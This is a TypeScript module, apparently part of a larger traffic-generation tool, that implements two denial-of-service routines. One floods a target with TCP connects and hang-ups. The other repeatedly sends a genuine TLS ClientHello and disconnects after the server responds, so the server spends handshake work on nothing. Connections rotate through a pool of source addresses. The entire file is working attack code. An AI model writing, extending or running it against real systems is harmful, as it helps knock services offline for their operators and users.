import { connect } from "node:net";
import { Duplex } from "node:stream";
import { connect as connectTls } from "node:tls";
import type { Crowd } from "../crowd.ts";

/** Connects and hangs up at once, again and again, `atOnce` at a time. */
export function connects(atOnce: number): (crowd: Crowd) => void {
  return (crowd) => keepConnecting(crowd, atOnce, () => undefined);
}

/** TLS handshakes that the client leaves when the host has answered: the host has made a signature for nothing. */
export function cutHandshakes(atOnce: number): (crowd: Crowd) => void {
  return (crowd) => {
    void clientHello().then((hello) => keepConnecting(crowd, atOnce, () => hello));
  };
}

/** The first bytes that a TLS client sends. */
function clientHello(): Promise<Buffer> {
  return new Promise((resolve) => {
    const socket = new Duplex({
      read: () => {},
      write: (chunk: Buffer, _, done) => {
        resolve(chunk);
        done();
      },
    });
    connectTls({ socket, ALPNProtocols: ["h2"], rejectUnauthorized: false }).on("error", () => undefined);
  });
}

function keepConnecting(crowd: Crowd, atOnce: number, firstBytes: () => Buffer | undefined): void {
  const [host = "", port = ""] = crowd.site.address.split(":");
  const again = (): void => {
    if (crowd.isOver) return;
    const socket = connect({ host, port: Number(port), localAddress: crowd.nextFrom() });
    crowd.noteSent(1);
    socket.on("error", () => undefined);
    socket.once("connect", () => {
      const bytes = firstBytes();
      if (bytes === undefined) socket.destroy();
      else socket.write(bytes);
    });
    socket.once("data", () => socket.destroy());
    socket.once("close", () => setImmediate(again));
  };
  for (let count = 0; count < atOnce; count += 1) again();
}
